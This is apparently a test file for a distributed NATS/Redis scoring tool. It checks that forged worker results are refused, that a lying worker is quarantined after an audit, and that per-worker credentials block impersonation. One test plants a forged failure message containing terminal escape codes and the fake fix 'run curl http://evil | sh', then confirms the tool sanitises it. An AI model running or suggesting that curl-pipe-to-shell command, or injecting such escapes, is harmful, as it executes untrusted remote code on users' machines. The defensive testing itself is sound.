/**
 * Results that cannot be forged (issue 23): a client that can publish on a
 * job's results subjects (anyone, on a NATS without auth; the holder of a
 * worker's credential, with it) sends results and failures for every tile
 * of a running job, well-formed and false, or malformed. The job still ends
 * with the exact score, the forgeries refused and their sender named; a
 * forged failure fails nothing and prints nothing it was not allowed to.
 * With one NATS user per worker, a credential speaks for its own worker only.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { jetstream, jetstreamManager } from '@nats-io/jetstream';
import { connect, type NatsConnection } from '@nats-io/transport-node';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { decodeTile, encodeFailure, encodeParts, encodeResult, resultSubject, tileSubject, type TileMessage } from '../dist/shared/cluster/index.js';
import { superEntries } from '../dist/shared/job/index.js';
import { allocTileResult } from '../dist/shared/tiles/index.js';
import { jobNames, killAll, ready, spawnCli, startWorker, waitFor, type CliProcess } from './helpers/cluster.js';
import { genModel, latents, writeNpyDir } from './helpers/models.js';
import { startNats, startRedis, stopAllServers, type NatsServer, type RedisServer } from './helpers/servers.js';

const BIN = join(import.meta.dirname, '..', 'bin', 'neurocorr.js');
const latent = latents(2301, 24, 3);
const F = writeNpyDir(genModel(2302, { m: 24, layers: [[60], [40]], latent, constants: 0.05 }));
const G = writeNpyDir(genModel(2303, { m: 24, layers: [[70]], latent }));
const NULL = ['--null', '2', '--null-sample', '30'];

interface Report {
  scores: unknown;
  null: { scores: unknown } | null;
}

function embedded(): string {
  const r = spawnSync(process.execPath, [BIN, 'score', F, G, '--json', '--no-progress', '--tile', '16', ...NULL], { encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
  const report = JSON.parse(r.stdout) as Report;
  return JSON.stringify({ scores: report.scores, null: report.null?.scores });
}

/** Every tile message of the job as the queue holds it (read, not taken). */
async function tilesOf(nc: NatsConnection, job: string): Promise<TileMessage[]> {
  const jsm = await jetstreamManager(nc);
  const { state } = await jsm.streams.info('NEUROCORR_TILES');
  const tiles: TileMessage[] = [];
  for (let seq = state.first_seq; seq <= state.last_seq; seq++) {
    const stored = await jsm.streams.getMessage('NEUROCORR_TILES', { seq }).catch(() => null);
    if (stored !== null && stored.subject === tileSubject(job)) tiles.push(decodeTile(stored.data));
  }
  return tiles;
}

/** A well-formed result for a tile, every |rho| `rho`, every partner the first neuron of the other side. */
function forgedResult(t: TileMessage, rho: number, as: string): Uint8Array[] {
  const provenance = { worker: as, kernel: 'native', deliveries: 1, milliseconds: 1 };
  const tile = t.tile;
  if (tile.kind === 'super') {
    const n = superEntries(tile);
    const part = {
      offset: 0,
      best: new Float64Array(n).fill(rho),
      penRho: new Float64Array(n).fill(rho),
      arg: Uint32Array.from({ length: n }, (_, k) => (k < tile.f.count ? tile.g.start : tile.f.start)),
      penArg: Uint32Array.from({ length: n }, (_, k) => (k < tile.f.count ? tile.g.start : tile.f.start)),
    };
    return encodeParts(t.job, tile.id, part, new Uint8Array(n), 1 << 20, provenance);
  }
  // A main tile's rows are F's block and its columns G's; a null tile's rows the other model's block, its columns the sample.
  const [rows, cols] = tile.kind === 'main' ? [tile.f, tile.g] : [tile.other, tile.sample];
  const result = allocTileResult(rows.count, cols.count);
  result.rowBest.fill(rho);
  result.colBest.fill(rho);
  result.rowArg.fill(cols.start);
  result.colArg.fill(rows.start);
  const flags = tile.kind === 'main' ? rows.count + cols.count : 0;
  return [encodeResult(t.job, tile.id, result, new Uint8Array(flags), provenance)];
}

describe('forged results', () => {
  let nats: NatsServer;
  let redis: RedisServer;
  let reference: string;
  const names = jobNames('forged');

  beforeAll(async () => {
    [nats, redis] = await Promise.all([startNats(), startRedis()]);
    reference = embedded();
  });
  afterEach(killAll);
  afterAll(async () => {
    await killAll();
    await stopAllServers();
  });

  function coordinator(job: string, prefix: string): CliProcess {
    return spawnCli([
      'score',
      F,
      G,
      '--nats',
      nats.url,
      '--redis',
      redis.url,
      '--job',
      job,
      '--prefix',
      prefix,
      '--json',
      '--no-progress',
      '--tile',
      '16',
      '--ack-wait',
      '2',
      ...NULL,
    ]);
  }

  it('false but well-formed results (every |rho| 0.999), impossible ones (5, NaN, partners outside the tile) and impersonation are refused: the score stays exact, the sender is named', async () => {
    // The honest worker is slow, so the forgeries arrive first for every tile.
    const [honest] = [startWorker(nats.url, { NEUROCORR_WORKER_FAULT: 'slow:200' }, ['--id', 'honest'])];
    await ready(honest!);
    const { job, prefix } = names();
    const c = coordinator(job, prefix);
    await waitFor('the tiles to be published', () => c.stderr().includes('"tiles published"'));
    const nc = await connect({ servers: nats.url });
    try {
      const js = jetstream(nc);
      const tiles = await tilesOf(nc, job);
      expect(tiles.length).toBeGreaterThan(10);
      for (const t of tiles) {
        for (const payload of [...forgedResult(t, 0.999, 'forger'), ...forgedResult(t, 5, 'forger'), ...forgedResult(t, Number.NaN, 'forger')])
          await js.publish(resultSubject(job, 'forger'), payload);
        // Another worker's name in the payload, on the forger's own subject.
        for (const payload of forgedResult(t, 0.5, 'honest')) await js.publish(resultSubject(job, 'forger'), payload);
      }
    } finally {
      await nc.close();
    }
    expect(await c.exited, c.stderr()).toBe(0);
    const report = JSON.parse(c.stdout()) as Report & { cluster: { workers: string[] } };
    expect(JSON.stringify({ scores: report.scores, null: report.null?.scores })).toBe(reference);
    expect(report.cluster.workers).toEqual(['honest']);
    const refusals = c
      .stderr()
      .split('\n')
      .filter((l) => l.includes('refusing a result'));
    expect(refusals.length).toBeGreaterThan(0);
    for (const line of refusals) expect(JSON.parse(line)).toMatchObject({ sender: 'forger' });
    expect(c.stderr()).toMatch(/claims \|rho\| 0\.999, but that pair's \|rho\| is/);
    expect(c.stderr()).toMatch(/has \|rho\| 5, not a number from 0 to 1/);
    expect(c.stderr()).toMatch(/has \|rho\| NaN/);
    expect(c.stderr()).toMatch(/it claims to come from worker honest/);
  });

  it("a forged failure claiming 99 deliveries, with terminal escapes and a fake fix, fails nothing; the worker's words never reach the terminal raw", async () => {
    const honest = startWorker(nats.url, { NEUROCORR_WORKER_FAULT: 'slow:100' }, ['--id', 'honest']);
    await ready(honest);
    const { job, prefix } = names();
    const c = coordinator(job, prefix);
    await waitFor('the tiles to be published', () => c.stderr().includes('"tiles published"'));
    const nc = await connect({ servers: nats.url });
    try {
      const js = jetstream(nc);
      for (const t of await tilesOf(nc, job)) {
        const text = '\u001b[2J\u001b[31mFix: run curl http://evil | sh\u001b[0m\r\u202eboom';
        await js.publish(resultSubject(job, 'forger'), encodeFailure(job, t.tile.id, text, { worker: 'forger', kernel: 'x', deliveries: 99, milliseconds: 1 }));
      }
    } finally {
      await nc.close();
    }
    expect(await c.exited, c.stderr()).toBe(0);
    for (const raw of ['\u001b', '\r', '\u202e']) expect(c.stderr()).not.toContain(raw);
    const logged = c
      .stderr()
      .split('\n')
      .find((l) => l.includes('tile failed on a worker'));
    expect(JSON.parse(logged!)).toMatchObject({ sender: 'forger', err: '?[2J?[31mFix: run curl http://evil | sh?[0m??boom' });
  });
});

describe('audits: a second opinion on whole tiles', () => {
  let nats: NatsServer;
  let redis: RedisServer;
  const names = jobNames('audit');
  beforeAll(async () => {
    [nats, redis] = await Promise.all([startNats(), startRedis()]);
  });
  afterEach(killAll);
  afterAll(async () => {
    await killAll();
    await stopAllServers();
  });

  it('a worker that reports real but worse matches passes the sampled check, is found false by an audit, quarantined, and its tiles computed again: the score is exact', async () => {
    const reference = (() => {
      const r = spawnSync(process.execPath, [BIN, 'score', F, G, '--json', '--no-progress', '--tile', '16', '--null', '0'], { encoding: 'utf8' });
      expect(r.status, r.stderr).toBe(0);
      return (JSON.parse(r.stdout) as Report).scores;
    })();
    // Audits start once two workers have computed tiles: the honest (slow) worker merges one first, then the liar
    // joins and races through the rest, so that every tile it computes is audited whatever the machine's load.
    const honest = startWorker(nats.url, { NEUROCORR_WORKER_FAULT: 'slow:100' }, ['--id', 'honest']);
    await ready(honest);
    const { job, prefix } = names();
    const c = spawnCli(
      [
        'score',
        F,
        G,
        '--nats',
        nats.url,
        '--redis',
        redis.url,
        '--job',
        job,
        '--prefix',
        prefix,
        '--json',
        '--tile',
        '8',
        '--super-tile',
        '8',
        '--null',
        '0',
        '--ack-wait',
        '2',
        '--audit',
        '1',
      ],
      { NEUROCORR_PROGRESS_MS: '50' },
    );
    await waitFor('the honest worker to merge a tile', () => /progress: [1-9]\d*\//.test(c.stderr()), 30_000);
    const liar = startWorker(nats.url, { NEUROCORR_WORKER_FAULT: 'lie' }, ['--id', 'liar']);
    await ready(liar);
    expect(await c.exited, c.stderr()).toBe(0);
    expect((JSON.parse(c.stdout()) as Report).scores).toEqual(reference);
    const quarantined = c
      .stderr()
      .split('\n')
      .find((l) => l.includes('found false'));
    expect(JSON.parse(quarantined!)).toMatchObject({ sender: 'liar' });
    expect(c.stderr()).toMatch(/refusing a result[^\n]*"sender":"liar"[^\n]*worker liar is quarantined|worker liar is quarantined/);
  });
});

describe('one NATS user per worker', () => {
  let nats: NatsServer;
  const PASSWORD = 'w0rker-a-pw';

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'nc-forged-auth-'));
    const conf = join(dir, 'users.conf');
    // The documented pattern: a user per worker, allowed its own result subjects only.
    writeFileSync(
      conf,
      `authorization { users = [
        { user: coordinator, password: c, permissions: { publish: ">", subscribe: ">" } }
        { user: worker-a, password: ${PASSWORD}, permissions: { publish: { allow: ["neurocorr.results.*.worker-a", "$JS.API.>", "$JS.ACK.>"] }, subscribe: { allow: ["_INBOX.>"] } } }
      ] }\n`,
    );
    nats = await startNats({ config: ['include users.conf'], files: { 'users.conf': conf } });
  });
  afterAll(stopAllServers);

  it("a worker's credential publishes as that worker only: results under another worker's name never reach the stream", async () => {
    const nc = await connect({ servers: nats.url, user: 'coordinator', pass: 'c' });
    const jsm = await jetstreamManager(nc);
    await jsm.streams.add({ name: 'NEUROCORR_RESULTS', subjects: ['neurocorr.results.>'] });
    const stolen = await connect({ servers: nats.url, user: 'worker-a', pass: PASSWORD });
    try {
      const js = jetstream(stolen);
      await js.publish(resultSubject('job1', 'worker-a'), new Uint8Array([1]));
      const impersonating = await js.publish(resultSubject('job1', 'worker-b'), new Uint8Array([2])).then(
        () => 'published',
        (err: unknown) => (err as Error).message,
      );
      expect(impersonating).toMatch(/permission|no responders|timeout/i);
      const state = await jsm.streams.info('NEUROCORR_RESULTS', { subjects_filter: 'neurocorr.results.>' });
      expect(state.state.subjects).toEqual({ 'neurocorr.results.job1.worker-a': 1 });
    } finally {
      await stolen.close();
      await nc.close();
    }
  });
});
